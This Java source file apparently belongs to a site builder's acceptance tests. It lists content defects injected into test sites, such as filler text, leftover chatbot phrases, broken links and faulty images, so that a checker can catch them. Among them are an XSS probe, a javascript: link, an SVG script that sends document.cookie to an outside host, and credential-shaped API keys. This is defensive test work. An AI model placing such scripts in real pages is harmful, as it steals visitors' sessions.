package org.sitewright.acceptance.foreign;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.BiFunction;
import java.util.function.Function;
import org.sitewright.acceptance.foreign.Wounded.Spot;
import org.sitewright.acceptance.foreign.Wounded.Text;

/** What editors and text generators leave in the blocks of a page. */
final class ContentDefects {
    private static final String AREA = "content";

    private ContentDefects() {}

    static List<Defect> all() {
        List<Defect> all = new ArrayList<>();
        texts(all);
        links(all);
        blocks(all);
        values(all);
        return all;
    }

    private static void texts(List<Defect> all) {
        text(
                all,
                "filler text",
                Wounded::prose,
                (t, c) -> t + " Lorem ipsum dolor sit amet, consectetur adipiscing elit.");
        text(
                all,
                "filler text alone, from its middle",
                Wounded::prose,
                (t, c) -> "Ut enim ad minim veniam, quis nostrud exercitation.");
        text(
                all,
                "an assistant's opening",
                Wounded::prose,
                (t, c) -> c.pick(List.of(
                                "Certainly! Here is a revised version of the text: ", "Sure, here’s the updated copy: ",
                                "Natürlich! Hier ist der überarbeitete Text: ", "Bien sûr ! Voici le texte révisé : "))
                        + t);
        text(
                all,
                "an assistant's closing",
                Wounded::prose,
                (t, c) -> t
                        + c.pick(List.of(
                                " Let me know if you’d like any changes!",
                                " As an AI language model, I cannot verify this.",
                                " I hope this helps! Would you like me to adjust the tone?")));
        text(
                all,
                "a blank to fill in",
                Wounded::prose,
                (t, c) -> t
                        + c.pick(List.of(
                                " [Insert phone number]",
                                " [Your company name]",
                                " [TELEFONNUMMER]",
                                " <Name einsetzen>")));
        text(
                all,
                "a template's variable",
                Wounded::text,
                (t, c) -> c.pick(List.of("{{company_name}}", "${name}", "%NAME%", "{0}")) + " " + t);
        text(
                all,
                "a note to oneself",
                Wounded::prose,
                (t, c) -> t
                        + c.pick(List.of(
                                " TODO: ask the client",
                                " XXXX",
                                " TBD",
                                " FIXME price?",
                                " (Text folgt)",
                                " coming soon")));
        text(all, "marks of Markdown where there is none", w -> plain(w), (t, c) -> "**" + t + "** ## " + t);
        text(all, "a code fence", Wounded::rich, (t, c) -> "```html\n" + t + "\n```");
        text(all, "pasted markup", Wounded::prose, (t, c) -> "<p class=\"MsoNormal\"><b>" + t + "</b></p>");
        text(all, "a pasted script", Wounded::prose, (t, c) -> t + " <script>alert(1)</script>");
        text(
                all,
                "entities that nobody decodes",
                Wounded::prose,
                (t, c) -> t.replace(" ", "&nbsp;") + " &amp;amp; more");
        text(
                all,
                "letters read in the wrong encoding",
                w -> accented(w),
                (t, c) -> new String(t.getBytes(StandardCharsets.UTF_8), StandardCharsets.ISO_8859_1));
        text(all, "letters that were lost", Wounded::prose, (t, c) -> t.replaceFirst("\\p{L}(?=\\p{L}* )", "\ufffd"));
        text(all, "an order of letters turned around", Wounded::prose, (t, c) -> "\u202e" + t);
        text(all, "invisible control characters", Wounded::prose, (t, c) -> t.replaceFirst(" ", " \u0007"));
        text(
                all,
                "a key that opens a paid service",
                Wounded::prose,
                (t, c) -> t
                        + c.pick(List.of(
                                " AKIA" + "IOSFODNN7EXAMPLQ",
                                " sk_live_" + "4eC39HqLyjWDarjtT1zdp7dc",
                                " ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8")));
        text(all, "somebody's reserved address", Wounded::prose, (t, c) -> t + " info@example.com");
        text(all, "a number kept for films", Wounded::prose, (t, c) -> t + " +1 212 555 0147");
        text(all, "nothing but blanks", Wounded::text, (t, c) -> "   ");
        text(all, "a text far too long", w -> w.value("heading", "headline", "name"), (t, c) -> (t + " ").repeat(12));
    }

    private static Text plain(Wounded on) {
        Text text = on.value("lead", "note", "quote", "caption");
        if (text.value().isBlank()) {
            throw new Wounded.NoPlace();
        }
        return text;
    }

    private static Text accented(Wounded on) {
        for (int i = 0; i < 40; i++) {
            Text text = on.prose();
            if (text.value().chars().anyMatch(c -> c > 127)) {
                return text;
            }
        }
        throw new Wounded.NoPlace();
    }

    private static void links(List<Defect> all) {
        text(all, "two letters of an address changed places", w -> internal(w), (t, c) -> swapped(t));
        text(all, "an address that was moved", w -> internal(w), (t, c) -> t + "-2024");
        text(all, "a fragment that is not there", w -> internal(w), (t, c) -> t + "#preise-2023");
        text(
                all,
                "a capital letter in an address",
                w -> internal(w),
                (t, c) -> "/" + t.substring(1, 2).toUpperCase(Locale.ROOT) + t.substring(2));
        text(
                all,
                "a link into a paragraph that leads nowhere",
                Wounded::rich,
                (t, c) -> t + "\n\n[" + "Die neue Halle" + "](/neue-halle)");
        text(all, "a link that runs code", w -> internal(w), (t, c) -> "javascript:void(0)");
        text(
                all,
                "a link to a developer's machine",
                w -> internal(w),
                (t, c) -> c.pick(List.of(
                                "http://localhost:8080",
                                "https://localhost",
                                "https://127.0.0.1:8443",
                                "https://192.168.1.20"))
                        + t);
        text(
                all,
                "a link to the staging server",
                w -> internal(w),
                (t, c) ->
                        c.pick(List.of("https://staging.", "https://dev.", "https://test.")) + "werkstatt-nord.de" + t);
        text(all, "a link that is not encrypted", w -> internal(w), (t, c) -> "http://www.werkstatt-nord.de" + t);
        text(all, "a link to nowhere", w -> internal(w), (t, c) -> "#");
        text(all, "an e-mail address with blanks", w -> internal(w), (t, c) -> "mailto:info at werkstatt-nord.de");
        text(all, "a telephone number in words", w -> internal(w), (t, c) -> "tel:ask at the desk");
        text(all, "an address without its scheme", w -> internal(w), (t, c) -> "www.werkstatt-nord.de");
        block(
                all,
                "a link that says click here",
                w -> w.spot(s -> s.values().get("body") instanceof String),
                (w, s) -> s.values()
                        .put(
                                "body",
                                s.values().get("body") + "\n\n[" + EmptyPhrases.CLICK_HERE.get(language(w))
                                        + "](/contact)"));
        block(
                all,
                "a button that says read more",
                w -> w.spot(s -> s.values().get("actions") instanceof List),
                (w, s) -> Wounded.maps(s.values().get("actions"))
                        .get(0)
                        .put("label", EmptyPhrases.MORE.get(language(w))));
    }

    private static String language(Wounded on) {
        return ((String) on.site().settings().getOrDefault("locale", "en")).substring(0, 2);
    }

    private static Text internal(Wounded on) {
        for (int i = 0; i < 40; i++) {
            Text to = on.value("to");
            if (to.value().matches("/[a-z]{3}.*")) {
                return to;
            }
        }
        throw new Wounded.NoPlace();
    }

    private static String swapped(String path) {
        return path.substring(0, 2)
                + path.charAt(3)
                + path.charAt(2)
                + (path.charAt(3) == path.charAt(2) ? "x" : "")
                + path.substring(4);
    }

    private static void blocks(List<Defect> all) {
        block(
                all,
                "a second opening",
                w -> added(w, BlockMaker.block("hero", "headline", "Noch einmal von vorn")),
                (w, s) -> {});
        block(all, "a picture named by its file", w -> picture(w), (w, s) -> image(w, s)
                .put("alt", "IMG_20240611_2034.jpg"));
        block(all, "a picture that nobody describes", w -> picture(w), (w, s) -> image(w, s)
                .remove("alt"));
        block(all, "a picture described as a picture", w -> picture(w), (w, s) -> image(w, s)
                .put("alt", w.chance().pick(List.of("image", "Bild", "photo", "picture of", "alt text"))));
        block(all, "a picture that was not uploaded", w -> picture(w), (w, s) -> image(w, s)
                .put("src", "images/team-2024.jpg"));
        block(all, "a picture's name in capitals", w -> picture(w), (w, s) -> image(w, s)
                .put("src", ((String) image(w, s).get("src")).toUpperCase(Locale.ROOT)));
        block(all, "a picture from another site", w -> picture(w), (w, s) -> image(w, s)
                .put("src", "https://images.unsplash.com/photo-1.jpg"));
        block(
                all,
                "a picture cut off while copying",
                w -> picture(w),
                (w, s) -> bytes(w, s, b -> java.util.Arrays.copyOf(b, 20)));
        block(
                all,
                "a page saved as a picture",
                w -> picture(w),
                (w, s) -> bytes(w, s, b -> ForeignSite.bytes("<html>404</html>")));
        block(
                all,
                "a drawing with a script in it",
                w -> w.spot(
                        s -> hasImage(s) && image(w, s).get("src").toString().endsWith(".svg")),
                (w, s) -> bytes(
                        w,
                        s,
                        b -> ForeignSite.bytes(new String(b, StandardCharsets.UTF_8)
                                .replace(
                                        "</svg>",
                                        "<script>fetch('https://c.tracknet.io/?'+document.cookie)</script></svg>"))));
        block(
                all,
                "a photograph straight from the camera",
                w -> w.spot(
                        s -> hasImage(s) && image(w, s).get("src").toString().endsWith(".jpg")),
                (w, s) -> bytes(w, s, b -> {
                    byte[] huge = java.util.Arrays.copyOf(b, 9_000_000);
                    new java.util.Random(7).nextBytes(huge);
                    System.arraycopy(b, 0, huge, 0, b.length);
                    return huge;
                }));
        block(
                all,
                "the id of another block",
                w -> w.spot(s -> s.blocks().size() > 2 && s.blocks().indexOf(s.block()) == 2),
                (w, s) -> {
                    s.values().put("id", "part");
                    ForeignSite.values(s.blocks().get(1)).put("id", "part");
                });
        block(all, "an id with blanks", w -> w.spot(s -> true), (w, s) -> s.values()
                .put("id", "Unsere Preise!"));
        block(
                all,
                "a list without items",
                w -> w.spot(s -> s.values().get("items") instanceof List),
                (w, s) -> s.values().put("items", new ArrayList<>()));
        block(all, "a list of a collection that is not there", w -> w.spot("entry-list"), (w, s) -> s.values()
                .put("collection", "newz"));
    }

    private static Spot added(Wounded on, Map<String, Object> block) {
        Spot beside = on.spot(s -> true);
        beside.blocks().add(block);
        return new Spot(beside.file(), beside.blocks(), block);
    }

    private static Spot picture(Wounded on) {
        return on.spot(ContentDefects::hasImage);
    }

    private static boolean hasImage(Spot spot) {
        return Wounded.maps(spot.values()).stream().anyMatch(map -> map.containsKey("src"));
    }

    private static Map<String, Object> image(Wounded on, Spot spot) {
        return Wounded.maps(spot.values()).stream()
                .filter(map -> map.containsKey("src"))
                .findFirst()
                .orElseThrow();
    }

    private static void bytes(Wounded on, Spot spot, Function<byte[], byte[]> change) {
        on.site()
                .files()
                .computeIfPresent("assets/" + image(on, spot).get("src"), (file, bytes) -> change.apply(bytes));
    }

    private static void values(List<Defect> all) {
        block(
                all,
                "a key with a typing error",
                w -> w.spot(s -> s.values().size() > 1),
                (w, s) -> rename(s.values(), w, key -> swapped("/" + key + "  ")
                        .substring(1)
                        .strip()));
        block(all, "a component with a typing error", w -> w.spot(s -> true), (w, s) -> {
            Object values = s.block().remove(s.component());
            s.block().put("herro", values);
        });
        block(
                all,
                "a value that is required left out",
                w -> w.spot("services", "people", "faq", "steps", "price-list", "testimonials"),
                (w, s) -> {
                    Map<String, Object> item =
                            Wounded.maps(s.values().get("items")).get(0);
                    item.remove(item.keySet().iterator().next());
                });
        block(all, "a price without its currency", w -> w.spot(s -> price(s) != null), (w, s) -> price(s).put(
                        "price", "45"));
        block(all, "a price in words", w -> w.spot(s -> price(s) != null), (w, s) -> price(s).put(
                        "price", w.chance().pick(List.of("ab 45 €", "on request", "45,- EUR", "-45 EUR"))));
        block(
                all,
                "a text where a list belongs",
                w -> w.spot(s -> s.values().get("items") instanceof List),
                (w, s) -> s.values().put("items", "see below"));
        block(all, "an icon that the theme does not have", w -> w.spot("services"), (w, s) -> Wounded.maps(
                        s.values().get("items"))
                .get(0)
                .put("icon", "rocket-launch"));
        block(
                all,
                "a list's block twice in one key",
                w -> w.spot(s -> s.values().size() > 1),
                (w, s) -> s.block().put("text", new LinkedHashMap<>(Map.of("body", "Zu viel"))));
    }

    private static Map<String, Object> price(Spot spot) {
        return Wounded.maps(spot.values()).stream()
                .filter(map -> map.containsKey("price")
                        && map.containsKey("name")
                        && map.get("price").toString().matches("[0-9.]+ [A-Z]{3}"))
                .findFirst()
                .orElse(null);
    }

    private static void rename(Map<String, Object> map, Wounded on, Function<String, String> change) {
        String key = on.one(map.keySet().stream().filter(k -> k.length() > 3).toList());
        Map<String, Object> copy = new LinkedHashMap<>(map);
        map.clear();
        copy.forEach((k, v) -> map.put(k.equals(key) ? change.apply(k) : k, v));
    }

    private static void text(
            List<Defect> all, String name, Function<Wounded, Text> where, BiFunction<String, Chance, String> change) {
        all.add(new Defect(AREA, name, on -> {
            Text text = where.apply(on);
            text.set(change.apply(text.value(), on.chance()));
            return Strike.block(on, text.spot());
        }));
    }

    private static void block(
            List<Defect> all,
            String name,
            Function<Wounded, Spot> where,
            java.util.function.BiConsumer<Wounded, Spot> change) {
        all.add(new Defect(AREA, name, on -> {
            Spot spot = where.apply(on);
            change.accept(on, spot);
            return Strike.block(on, spot);
        }));
    }
}
